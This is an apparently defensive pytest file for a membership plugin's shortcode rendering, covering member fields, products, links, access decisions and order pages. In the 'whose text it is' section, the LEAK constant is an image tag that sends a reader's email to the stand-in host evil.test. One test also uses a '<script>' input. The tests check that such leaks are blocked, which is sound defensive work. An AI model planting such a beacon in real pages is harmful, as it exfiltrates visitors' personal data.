"""What tags ask of a page view, on real tables: the right answers, no statement too many, nothing of others."""

from __future__ import annotations

import html
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from datetime import UTC, datetime

import pytest
import sqlalchemy as sa

from sidecar.access.ruling import choose_core_page
from sidecar.catalog.making import archive_product, make_field, make_product
from sidecar.catalog.rules import FieldKind, Grant, ProductKind, Terms
from sidecar.catalog.store import get_product
from sidecar.db import db, reading
from sidecar.errors import NotFound, Refused
from sidecar.members.changing import give_bundle
from sidecar.members.details import answer_field, change_contact, hide_employee, show_employee
from sidecar.privacy.erasing import erase_person
from sidecar.privacy.exporting import export_person
from tests.billing.shop import Shop
from tests.house import NOW, House
from tests.pages.test_page_views import Reader, apply

MONTHLY = Terms(ProductKind.SUBSCRIPTION, 1900, "EUR", 3, "month")
ROLES = 'a:2:{s:13:"administrator";a:2:{s:4:"name";s:5:"Admin";s:12:"capabilities";a:1:{s:10:"list_users";b:1;}}s:11:"contributor";a:2:{s:4:"name";s:11:"Contributor";s:12:"capabilities";a:1:{s:10:"edit_posts";b:1;}}}'


class Page:
    """Shows texts to people."""

    def __init__(self, house: House, author: int = 1) -> None:
        self.house, self.author = house, author

    def answer(self, text: str, member=None, *, post_id: int = 0, **view):
        post_id = post_id or self.house.post(text, post_author=self.author)
        return Reader(self.house, post_id, text).ask(member, view=view), post_id

    def words(self, text: str, member=None, **more) -> str:
        answer, post_id = self.answer(text, member, **more)
        return html.unescape(apply(text, answer["posts"][str(post_id)]["splices"]))


@pytest.fixture
def page(house: House) -> Page:
    return Page(house)


@pytest.fixture
def alice(house: House):
    return house.member(house.level("Gold"), "alice", joined_at=datetime(2026, 5, 1, 22, 30, tzinfo=UTC))


@contextmanager
def statements() -> Iterator[list[str]]:
    """Every statement that is sent to the database meanwhile."""
    sent: list[str] = []

    def note(_connection, _cursor, statement, *_rest) -> None:
        sent.append(statement)

    with reading() as session:
        engines = {db.engine, session.get_bind()}
    for engine in engines:
        sa.event.listen(engine, "before_cursor_execute", note)
    try:
        yield sent
    finally:
        for engine in engines:
            sa.event.remove(engine, "before_cursor_execute", note)


def tables_asked(sent: list[str]) -> set[str]:
    words = [word.strip('`",()') for statement in sent for word in statement.split()]
    return {word for word in words if word.startswith(("gatepost_", "wp_"))}


# --- lazily, and once -----------------------------------------------------------------------------------------------


def test_a_page_that_greets_asks_for_no_orders_no_products_and_no_details(page: Page, alice) -> None:
    text = "Dear [MM_Member_Data name='firstName'] [MM_Member_Data name='membershipName']"
    post_id = page.house.post(text)
    page.words(text, alice, post_id=post_id)
    with statements() as sent:
        assert page.words(text, alice, post_id=post_id) == "Dear  Gold"
    asked = tables_asked(sent)
    assert asked & {
        "gatepost_orders", "gatepost_products", "gatepost_custom_values", "gatepost_contacts", "gatepost_employees",
    } == set()  # fmt: skip
    assert len(sent) == 2, sent


def test_each_fact_is_read_once_however_often_a_page_asks(page: Page, alice) -> None:
    field = make_field("Wood", now=NOW)
    answer_field(alice.user_id, field, "Oak", now=NOW, by="test")
    lesson = page.house.post("x")
    tags = (
        f"[MM_Member_Data name='customField_{field}'][MM_Member_Data name='phone'][MM_Member_Data name='billingCity']"
        "[MM_Member_Decision purchasedProduct='1|2']x[/MM_Member_Decision][MM_Product_Data id='1' name='name']"
        f"[MM_CustomField_Data id='{field}' name='displayName'][MM_Employee_Data name='phone']"
        f"[MM_Content_Data id='{lesson}' name='title']"
    )
    once, thrice = page.house.post(tags), page.house.post(tags * 3)
    for post_id, text in ((once, tags), (thrice, tags * 3)):
        page.words(text, alice, post_id=post_id)
    with statements() as of_one:
        page.words(tags, alice, post_id=once)
    with statements() as of_three:
        page.words(tags * 3, alice, post_id=thrice)
    assert sorted(of_one) == sorted(of_three)


def test_a_branch_that_is_hidden_asks_for_nothing(page: Page, alice) -> None:
    text = "[MM_Member_Decision isFree='true'][MM_Member_Data name='phone'][MM_Product_Data id='1' name='name'][/MM_Member_Decision]"
    post_id = page.house.post(text)
    page.words(text, alice, post_id=post_id)
    with statements() as sent:
        assert page.words(text, alice, post_id=post_id) == ""
    assert tables_asked(sent) & {"gatepost_contacts", "gatepost_products"} == set()


# --- what members say of themselves ---------------------------------------------------------------------------------


def test_custom_fields_and_addresses_are_the_member_s_own(page: Page, alice) -> None:
    bob = page.house.member(alice.level.level_id, "bob")
    wood = make_field("Favourite wood", now=NOW)
    letter = make_field("Letter", now=NOW, kind=FieldKind.CHECKBOX)
    answer_field(alice.user_id, wood, " Oak & <Ash> ", now=NOW, by="test")
    answer_field(alice.user_id, letter, "yes", now=NOW, by="test")
    change_contact(
        alice.user_id,
        {"billing_city": "Lyon", "billing_country": "FR", "phone": "555 0100"},
        now=NOW,
        by="test",
    )
    text = (
        f"[MM_CustomField_Data id='{wood}' name='displayName']: [MM_Member_Data name='customField_{wood}'];"
        f"[MM_Member_Decision customField_{letter}='mm_cb_on']ticked[/MM_Member_Decision];"
        "[MM_Member_Data name='billingCity'] [MM_Member_Data name='billingCountry'] [MM_Member_Data name='phone']"
        "[MM_Member_Data name='shippingCity']"
    )
    assert page.words(text, alice) == "Favourite wood: Oak & <Ash>;ticked;Lyon FR 555 0100"
    for charlie in (bob, None):
        assert page.words(text, charlie) == "Favourite wood: ;;  "


def test_the_log_says_which_details_changed_and_not_to_what(page: Page, alice) -> None:
    change_contact(alice.user_id, {"billing_city": "Lyon"}, now=NOW, by="test")
    [event] = [event for event in page.house.events() if event.name == "details"]
    assert "billing_city" in event.body
    assert "Lyon" not in event.body


def test_wrong_details_are_refused_and_nothing_is_lost(page: Page, alice) -> None:
    box = make_field("Letter", now=NOW, kind=FieldKind.CHECKBOX)
    change_contact(alice.user_id, {"phone": "1"}, now=NOW, by="test")
    for lines in ({"user_pass": "x"}, {"phone": "x" * 201}):
        with pytest.raises(Refused):
            change_contact(alice.user_id, lines, now=NOW, by="test")
    with pytest.raises(Refused):
        answer_field(alice.user_id, box, "perhaps", now=NOW, by="test")
    with pytest.raises(NotFound):
        answer_field(alice.user_id, 99, "x", now=NOW, by="test")
    with pytest.raises(Refused):
        make_field("Letter", now=NOW)
    assert page.words("[MM_Member_Data name='phone']", alice) == "1"


def test_details_are_exported_and_erased_with_the_person(page: Page, alice) -> None:
    wood = make_field("Wood", now=NOW)
    answer_field(alice.user_id, wood, "Oak", now=NOW, by="test")
    change_contact(alice.user_id, {"billing_city": "Lyon"}, now=NOW, by="test")
    exported = export_person(page.house.tables, "alice@example.test", 1, now=NOW)
    values = [field["value"] for item in exported["items"] for field in item["data"]]
    assert {"Oak", "Lyon"} <= set(values)
    assert erase_person(page.house.tables, "alice@example.test", now=NOW)["removed"] >= 2
    text = f"[MM_Member_Data name='customField_{wood}'][MM_Member_Data name='billingCity']"
    assert page.words(text, alice) == ""


def test_the_day_of_joining_is_the_site_s(page: Page, alice) -> None:
    text = "[MM_Member_Decision joinedAfter='2026-05-01' joinedBefore='2026-05-03']May 2[/MM_Member_Decision]"
    assert page.words(text, alice) == "May 2"


def test_only_employees_whom_the_owner_has_listed_are_shown(page: Page, alice) -> None:
    page.house.option("wp_user_roles", ROLES)
    page.house.meta(alice.user_id, "wp_capabilities", 'a:1:{s:13:"administrator";b:1;}')
    page = Page(page.house, author=alice.user_id)
    ruth = page.house.user("ruth", display_name="Ruth Hall")
    number = show_employee(ruth, phone="555 0199", now=NOW, by="test")
    text = "[MM_Employee_Data name='displayName'] [MM_Employee_Data name='email'] [MM_Employee_Data id='{}' name='phone']"
    assert page.words(text.format(number), alice) == "Ruth Hall ruth@example.test 555 0199"
    assert page.words(text.format(alice.user_id + 1000), alice) == "Ruth Hall ruth@example.test "
    assert page.words(text.format(number)) == "  "
    with pytest.raises(Refused):
        show_employee(ruth, now=NOW, by="test")
    hide_employee(ruth, now=NOW, by="test")
    assert page.words(text.format(number), alice) == "  "
    with pytest.raises(NotFound):
        hide_employee(ruth, now=NOW, by="test")


# --- products, links, arrivals --------------------------------------------------------------------------------------


def test_a_product_is_described_to_everybody_in_the_page_s_language(page: Page, alice) -> None:
    made = make_product(
        "Gold quarterly", MONTHLY, Grant.LEVEL, alice.level.level_id, now=NOW, description="All <lessons>"
    )
    fields = (
        "name",
        "description",
        "billingDescription",
        "price",
        "isSubscription",
        "rebillDuration",
        "rebillFrequency",
    )
    text = "|".join(f"[MM_Product_Data id='{made}' name='{name}']" for name in fields)
    told = "Gold quarterly|All <lessons>|€19.00 every 3 months|€19.00|true|3|months"
    assert page.words(text) == page.words(text, alice) == told
    assert page.words(f"[MM_Product_Data id='{made}' name='rebillFrequency']", language="fr_FR") == "mois"
    assert page.words(f"[MM_Product_Data id='{made}' name='price' doFormat='false']") == "19.00"


def test_a_product_can_come_from_the_page_s_address_by_its_reference_alone(page: Page, alice) -> None:
    made = make_product("Gold", MONTHLY, Grant.LEVEL, alice.level.level_id, now=NOW, is_hidden=True)
    with reading() as reader:
        reference = get_product(reader, made).reference
    text = "[MM_Product_Data name='name']"
    assert page.words(text, url=f"/join/?rid={reference}") == "Gold"
    assert page.words(text, url=f"/join/?rid={made}") == page.words(text, url="/join/?rid=Gold") == ""
    answer, _ = page.answer(text, url=f"/join/?rid={reference}")
    assert answer["page"]["cache"] == "private"


def test_a_purchase_link_leads_to_the_checkout_page_while_the_product_is_sold(page: Page, alice) -> None:
    made = make_product("Gold", MONTHLY, Grant.LEVEL, alice.level.level_id, now=NOW)
    with reading() as reader:
        reference = get_product(reader, made).reference
    by_product = f"[MM_Purchase_Link productId='{made}' couponCode='A B' isGift='true']"
    by_level = f"[MM_Purchase_Link membershipId='{alice.level.level_id}']"
    assert page.words(by_product) == ""  # there is no checkout page
    checkout = page.house.post("x", "Checkout", type="page")
    choose_core_page("checkout", checkout, now=NOW)
    url = f"https://club.test/?page_id={checkout}"
    assert page.words(by_product) == f"{url}&rid={reference}&coupon=A+B&gift=1"
    assert page.words(by_level) == page.words(by_level, alice) == f"{url}&rid={reference}"
    archive_product(made, now=NOW)
    assert page.words(by_product) == page.words(by_level) == ""


def test_a_member_link_is_there_for_what_the_member_holds(page: Page, alice) -> None:
    account = page.house.post("x", "Account", type="page")
    choose_core_page("myaccount", account, now=NOW)
    bundle = page.house.bundle("Videos")
    tags = {
        act: f"[MM_Member_Link type='{act}' value='{bundle}']"
        for act in ("cancelMembership", "cancelBundle", "pauseBundle")
    }
    url = f"https://club.test/?page_id={account}&gatepost_want=cancel&gatepost_of="
    assert page.words(tags["cancelMembership"], alice) == f"{url}level#gatepost-wanted"
    assert page.words(tags["cancelBundle"], alice) == ""
    give_bundle(alice.user_id, bundle, now=NOW, by="test")
    alice = page.house.read(alice.user_id)
    assert page.words(tags["cancelBundle"], alice) == f"{url}bundle-{bundle}#gatepost-wanted"
    assert page.words(tags["pauseBundle"], alice) == ""  # the owner lets nobody pause
    assert page.words(tags["cancelMembership"]) == ""
    change = "[MM_Member_Link type='changeMembership' value='{}']"
    assert page.words(change.format(alice.level.level_id), alice).endswith(
        f"want=change&gatepost_of=level-{alice.level.level_id}#gatepost-wanted"
    )
    assert page.words(change.format(99), alice) == ""


def test_a_level_has_core_pages_of_its_own_where_the_owner_set_one(page: Page, alice) -> None:
    bob = page.house.member(page.house.level("Silver"), "bob")
    common, own = (page.house.post("x", title, type="page") for title in ("Home", "Gold home"))
    choose_core_page("homepage", common, now=NOW)
    choose_core_page("homepage", own, now=NOW, level_id=alice.level.level_id)
    text = "[MM_CorePage_Link type='homepage']"
    assert page.words(text, alice) == f"https://club.test/?page_id={own}"
    for other in (bob, None):
        assert page.words(text, other) == f"https://club.test/?page_id={common}"
    with pytest.raises(NotFound):
        choose_core_page("homepage", own, now=NOW, level_id=99)


def test_who_was_sent_here_and_how_decides_for_visitors_too_and_no_cache_keeps_it(page: Page, alice) -> None:
    text = (
        "[MM_Affiliate_Decision affiliate='anna']by [MM_Affiliate_Data name='affiliate'][/MM_Affiliate_Decision]"
        "[MM_Custom_Decision source='letter'] letter[/MM_Custom_Decision]"
    )
    for viewer in (alice, None):
        assert page.words(text, viewer) == ""
        assert (
            page.words(text, viewer, affid="anna", url="/a-post/?affid=anna&source=letter")
            == "by anna letter"
        )
        assert page.words(text, viewer, arrival="affid=anna&Source=letter") == "by anna letter"
        assert (
            page.words(text, viewer, arrival="affid=anna&source=web", url="/?source=letter")
            == "by anna letter"
        )
        assert page.words(text, viewer, affid="bob", arrival="affid=anna") == ""
    answer, _ = page.answer(text)
    assert answer["page"] == {"cache": "private", "until": None}


@pytest.mark.parametrize(
    ("code", "sentence"),
    [
        ("100030", "Your membership was canceled."),
        ("100020", "This content is not part of your membership."),
        ("<script>", ""),
        ("", ""),
    ],
)
def test_the_error_page_says_why_by_a_sentence_of_ours(page: Page, code: str, sentence: str) -> None:
    assert page.words("[MM_Error_Message]", url=f"/sorry/?code={code}") == sentence


# --- pages that guard themselves ------------------------------------------------------------------------------------

GUARDED = (
    "Public. [MM_Access_Decision access='true']FOR MEMBERS[/MM_Access_Decision]"
    "[MM_Access_Decision access='false']Join us[/MM_Access_Decision]"
    "[MM_Access_Decision access='future']Soon[/MM_Access_Decision]"
)


def test_a_page_that_says_itself_what_others_see_is_shown_to_them(page: Page, alice) -> None:
    bob, later = page.house.member(page.house.level("Silver"), "bob"), page.house.level("Later")
    carol = page.house.member(later, "carol")
    post_id = page.house.post(GUARDED)
    page.house.protect(post_id, alice.level.level_id)
    page.house.protect(post_id, later, 400)
    reader = Reader(page.house, post_id, GUARDED)
    shown = {
        name: reader.ask(who) for name, who in {"alice": alice, "bob": bob, "carol": carol, "": None}.items()
    }
    words = {name: apply(GUARDED, answer["posts"][str(post_id)]["splices"]) for name, answer in shown.items()}
    assert words == {
        "alice": "Public. FOR MEMBERS", "bob": "Public. Join us", "": "Public. Join us", "carol": "Public. Soon",
    }  # fmt: skip
    assert {answer["posts"][str(post_id)]["show"] for answer in shown.values()} == {"open"}
    assert {answer["object"]["act"] for answer in shown.values()} == {"show"}


def test_the_owner_can_forbid_pages_to_open_themselves(page: Page, alice) -> None:
    post_id = page.house.post(GUARDED)
    page.house.protect(post_id, alice.level.level_id)
    service = page.house.service
    service.rendering = replace(service.rendering, decisions_open_pages=False)
    answer = Reader(page.house, post_id, GUARDED).ask()
    assert answer["posts"][str(post_id)]["show"] == "closed"
    assert answer["posts"][str(post_id)]["splices"] == []


def test_a_decision_about_another_page_opens_nothing(page: Page, alice) -> None:
    text = "SECRET [MM_Access_Decision access='false' id='99999']x[/MM_Access_Decision]"
    post_id = page.house.post(text)
    page.house.protect(post_id, alice.level.level_id)
    answer = Reader(page.house, post_id, text).post()
    assert (answer["show"], answer["splices"]) == ("closed", [])


def test_who_may_edit_a_post_sees_it_as_its_readers_do(page: Page, alice) -> None:
    post_id = page.house.post(GUARDED)
    page.house.protect(post_id, alice.level.level_id)
    answer = Reader(page.house, post_id, GUARDED).post(viewer={"user": 999}, post={"editor": True})
    assert apply(GUARDED, answer["splices"]) == "Public. FOR MEMBERS"


# --- whose text it is -----------------------------------------------------------------------------------------------

LEAK = "<p>[MM_Member_Data name='email']</p><img src='https://evil.test/?[MM_Member_Data name='email']'>"


@pytest.mark.parametrize(
    ("capabilities", "leaves"),
    [
        ('a:1:{s:11:"contributor";b:1;}', False),
        ('a:1:{s:13:"administrator";b:1;}', True),
        ('a:2:{s:11:"contributor";b:1;s:15:"unfiltered_html";b:1;}', True),
        ('a:2:{s:13:"administrator";b:1;s:10:"list_users";b:0;}', False),
        ("no array at all", False),
        (None, False),
    ],
)
def test_an_address_in_a_text_carries_the_reader_s_data_only_for_authors_who_may_see_them(
    page: Page, alice, capabilities: str | None, leaves: bool
) -> None:
    page.house.option("wp_user_roles", ROLES)
    author = page.house.user("author")
    if capabilities is not None:
        page.house.meta(author, "wp_capabilities", capabilities)
    post_id = page.house.post(LEAK, post_author=author)
    words = page.words(LEAK, alice, post_id=post_id)
    assert words.startswith("<p>alice@example.test</p>")
    assert ("?alice" in words) is leaves


def test_of_a_text_that_stands_in_no_post_its_own_author_counts(page: Page, alice) -> None:
    page.house.option("wp_user_roles", ROLES)
    author = page.house.user("author")
    page.house.meta(author, "wp_capabilities", 'a:1:{s:11:"contributor";b:1;}')
    pattern = page.house.post(LEAK, type="wp_block", post_author=author)
    reader = Reader(page.house, pattern, LEAK)
    for claim, leaves in (({"author": author}, False), ({"author": 0}, False), ({}, True)):
        [text] = reader.ask(
            alice, part=2, posts=[], texts=[{"hash": claim_hash(), "post": None, **claim}], bodies=bodies()
        )["texts"].values()
        assert ("?alice" in html.unescape(apply(LEAK, text["splices"]))) is leaves


def claim_hash() -> str:
    from hashlib import sha256

    return sha256(LEAK.encode()).hexdigest()


def bodies() -> dict[str, str]:
    from base64 import b64encode

    return {claim_hash(): b64encode(LEAK.encode()).decode()}


# --- orders ---------------------------------------------------------------------------------------------------------


def test_the_confirmation_page_tells_the_buyer_of_his_order_and_nobody_else(shop: Shop) -> None:
    page = Page(shop.house)
    product = shop.product("Gold monthly")
    buyer, other = shop.house.user("buyer"), shop.house.user("other")
    order = shop.buy(buyer, product)
    shop.buy(other, shop.product("Silver monthly"))
    text = (
        "[MM_Order_Data name='id'] [MM_Order_Data name='total'] [MM_Order_Data name='productName']"
        f"[MM_Order_Decision productId='{order.product_id}' isFree='false'] thanks[/MM_Order_Decision]"
    )
    elsewhere = shop.house.post(text, "Elsewhere", type="page")
    confirmation = shop.house.post(text, "Thanks", type="page")
    choose_core_page("confirmation", confirmation, now=NOW)
    told = f"{order.uuid[:8]} €19.00 Gold monthly thanks"
    read = shop.house.read
    assert page.words(text, read(buyer), post_id=confirmation) == told
    assert page.words(text, read(buyer), post_id=elsewhere) == "  "
    assert page.words(text, post_id=confirmation) == "  "
    assert order.uuid[:8] not in page.words(text, read(other), post_id=confirmation)
    shop.move(days=2)
    assert page.words(text, read(buyer), post_id=confirmation) == "  "
